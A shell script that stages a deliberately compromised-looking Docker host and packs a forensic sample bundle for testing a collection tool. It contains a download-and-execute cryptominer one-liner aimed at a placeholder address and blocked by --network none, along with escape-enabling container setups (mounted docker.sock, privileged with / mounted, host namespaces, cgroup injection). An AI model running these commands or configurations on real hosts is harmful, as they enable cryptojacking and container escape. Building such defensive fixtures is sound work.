#!/bin/sh
# Build sample-bundles/docker-host.tgz: a real collect.sh bundle of a Docker host staged to look
# compromised. Needs root, a running dockerd, busybox-static. Creates everything with the prefix
# cf-sample- and removes it all at the end (only what it created).
#
# The scene (all containers on --network none unless host networking is the point, so nothing
# leaves the machine):
#   cf-sample-web          a plain, clean container (the baseline)
#   cf-sample-ci-runner    /var/run/docker.sock bind-mounted
#   cf-sample-debug        --cap-add SYS_ADMIN
#   cf-sample-hostns       --pid=host --net=host
#   cf-sample-unconfined   --security-opt seccomp=unconfined
#   cf-sample-miner        command is a download-and-execute one-liner (fails: no network)
#   cf-sample-dropper      runs cf-sample-dropper:latest, whose history downloads a file
#                          (from a 127.0.0.1 web server), installs it 4755 and deletes it
#   cf-sample-priv         --privileged, created only (privileged containers cannot start here)
#   cf-sample-victim       running; a host process (`sleep`, host namespaces) is written into
#                          its cgroup.procs: a process in a container's cgroups that shares every
#                          host namespace, the trace an escape or a cgroup-hopping implant leaves
#
# Privacy step (documented in sample-bundles/README.md): the host-wide process and mount tables
# of the machine that builds the sample also list that machine's own management processes. They
# are not part of the scene and are filtered out of host/*.tsv, host/ps.txt, host/*sockets* and
# host/mount* before packing; those files are re-hashed and meta.env says so (SAMPLE_FILTERED).
set -eu
ROOT=$(cd "$(dirname "$0")/.." && pwd)
OUTDIR=$ROOT/sample-bundles
P=cf-sample
T=$(mktemp -d)
HOSTSLEEP=
remove_scene() {
	for c in web ci-runner debug hostns unconfined miner dropper priv victim; do
		docker rm -f "$P-$c" >/dev/null 2>&1 || true
	done
	docker rmi "$P-dropper:latest" "$P-base:latest" >/dev/null 2>&1 || true
	docker volume rm "$P-cache" >/dev/null 2>&1 || true
}
cleanup() {
	if [ -n "$HOSTSLEEP" ]; then kill "$HOSTSLEEP" 2>/dev/null || true; fi
	remove_scene
	rm -rf "$T"
}
trap cleanup EXIT INT TERM
[ "$(id -u)" = 0 ] || { echo "run as root" >&2; exit 1; }
docker info >/dev/null || { echo "dockerd is not answering" >&2; exit 1; }
remove_scene # left over by an interrupted run

sh "$ROOT/scripts/build-offline-busybox-image.sh" "$P" >/dev/null
B=$P-base:latest
LOOP='while :; do sleep 3600; done'
docker volume create "$P-cache" >/dev/null
docker run -d --network none --name "$P-web" -v "$P-cache:/cache" "$B" sh -c "$LOOP" >/dev/null
docker run -d --network none --name "$P-ci-runner" -v /var/run/docker.sock:/var/run/docker.sock "$B" sh -c "$LOOP" >/dev/null
docker run -d --network none --name "$P-debug" --cap-add SYS_ADMIN "$B" sh -c "touch /tmp/.x; $LOOP" >/dev/null
docker run -d --name "$P-hostns" --pid host --net host "$B" sh -c "$LOOP" >/dev/null
docker run -d --network none --name "$P-unconfined" --security-opt seccomp=unconfined "$B" sh -c "$LOOP" >/dev/null
# No network: wget fails at once ("Network is unreachable"); no packet leaves the container.
docker run -d --network none --name "$P-miner" "$B" sh -c 'wget -qO- http://203.0.113.50/xmrig.sh | sh' >/dev/null
docker run -d --network none --name "$P-dropper" "$P-dropper:latest" >/dev/null
docker create --network none --name "$P-priv" --privileged -v /:/host "$B" sh -c "$LOOP" >/dev/null
VICTIM=$(docker run -d --network none --name "$P-victim" "$B" sh -c "$LOOP")
sleep 2

# A host process moved into the victim's cgroups (every v1 hierarchy and the v2 one).
sleep 100000 &
HOSTSLEEP=$!
moved=0
for procs in /sys/fs/cgroup/*/docker/"$VICTIM"/cgroup.procs /sys/fs/cgroup/docker/"$VICTIM"/cgroup.procs \
	/sys/fs/cgroup/system.slice/docker-"$VICTIM".scope/cgroup.procs; do
	[ -f "$procs" ] || continue
	if echo "$HOSTSLEEP" >"$procs" 2>/dev/null; then moved=$((moved + 1)); fi
done
echo "host sleep $HOSTSLEEP moved into $moved cgroup hierarchies of $VICTIM" >&2
[ "$moved" -gt 0 ] || { echo "could not move the host process into the container's cgroups" >&2; exit 1; }

mkdir -p "$T/out"
# Small caps: the sample must stay well under 1 MB.
sh "$ROOT/collect.sh" -o "$T/out" --keep-dir --skip k8s,control-plane \
	--max-file-size 65536 --timeout 30 >"$T/stdout" 2>"$T/stderr" || { cat "$T/stderr" >&2; exit 1; }
BUNDLE_DIR=$(find "$T/out" -maxdepth 1 -type d -name 'cf-bundle-*' | head -n 1)
NAME=${BUNDLE_DIR##*/}

# ---- privacy filter (see header) ------------------------------------------------------------
cd "$BUNDLE_DIR"
# pids kept: processes in a docker cgroup, the container runtimes, the collector itself
awk -F '\t' 'NR > 1 && $2 ~ /docker/ { print $1 }' host/proc-cgroup.tsv >"$T/keep"
awk -F '\t' 'NR > 1 { print $1 }' host/daemon-cmdlines.tsv >>"$T/keep"
awk -F '\t' 'NR > 1 { print $1 }' host/ns-reference.tsv >>"$T/keep"
sort -u "$T/keep" -o "$T/keep"
filter_pid_tsv() { # keep the header and rows whose first column is a kept pid
	awk -F '\t' 'NR == FNR { k[$1] = 1; next } FNR == 1 || ($1 in k)' "$T/keep" "$1" >"$T/f" && cat "$T/f" >"$1"
}
for f in host/processes.tsv host/proc-status.tsv host/proc-ns.tsv host/proc-cgroup.tsv; do filter_pid_tsv "$f"; done
# ps.txt: pid is the first column
awk 'NR == FNR { k[$1] = 1; next } FNR == 1 || ($1 in k)' "$T/keep" host/ps.txt >"$T/f" && cat "$T/f" >host/ps.txt
# sockets: keep header and lines owned by a kept pid, or with no owner shown
for f in host/listening.txt host/sockets.txt; do
	[ -f "$f" ] || continue
	awk 'NR == FNR { k[$1] = 1; next }
		FNR == 1 { print; next }
		!/users:/ { print; next }
		{ s = $0; keep = 0
		  while (match(s, /pid=[0-9]+/)) { if (substr(s, RSTART + 4, RLENGTH - 4) in k) keep = 1; s = substr(s, RSTART + RLENGTH) }
		  if (keep) print }' "$T/keep" "$f" >"$T/f" && cat "$T/f" >"$f"
done
for f in host/mounts.txt host/mountinfo.txt; do
	grep -v '/mnt/sandboxing' "$f" >"$T/f" || true
	cat "$T/f" >"$f"
done
FILTERED="host/processes.tsv host/proc-status.tsv host/proc-ns.tsv host/proc-cgroup.tsv host/ps.txt host/listening.txt host/sockets.txt host/mounts.txt host/mountinfo.txt"
echo "SAMPLE_FILTERED=$(echo "$FILTERED" | tr ' ' ',') filtered to the container scene by scripts/make-sample-docker-bundle.sh and re-hashed" >>meta.env
# re-hash the changed files, fix the bytes column of their rows
for f in $FILTERED meta.env; do
	[ -f "$f" ] || continue
	h=$(sha256sum <"$f" | cut -d' ' -f1)
	awk -v f="$f" -v h="$h" 'substr($0, 67) == f { print h "  " f; next } { print }' SHA256SUMS >"$T/s" && cat "$T/s" >SHA256SUMS
	n=$(wc -c <"$f" | tr -d ' ')
	awk -F '\t' -v OFS='\t' -v f="$f" -v n="$n" '$8 == f { $7 = n } { print }' commands.tsv >"$T/c" && cat "$T/c" >commands.tsv
done
h=$(sha256sum <commands.tsv | cut -d' ' -f1)
awk -v h="$h" 'substr($0, 67) == "commands.tsv" { print h "  commands.tsv"; next } { print }' SHA256SUMS >"$T/s" && cat "$T/s" >SHA256SUMS
sha256sum -c --quiet SHA256SUMS
cd "$T/out"
mkdir -p "$OUTDIR"
tar -czf "$OUTDIR/docker-host.tgz" "$NAME"
chmod 644 "$OUTDIR/docker-host.tgz"
(cd "$OUTDIR" && sha256sum docker-host.tgz >docker-host.tgz.sha256)
echo "victim container: $VICTIM; host process moved into its cgroups: pid $HOSTSLEEP" >&2
ls -l "$OUTDIR/docker-host.tgz" >&2
echo "$OUTDIR/docker-host.tgz"
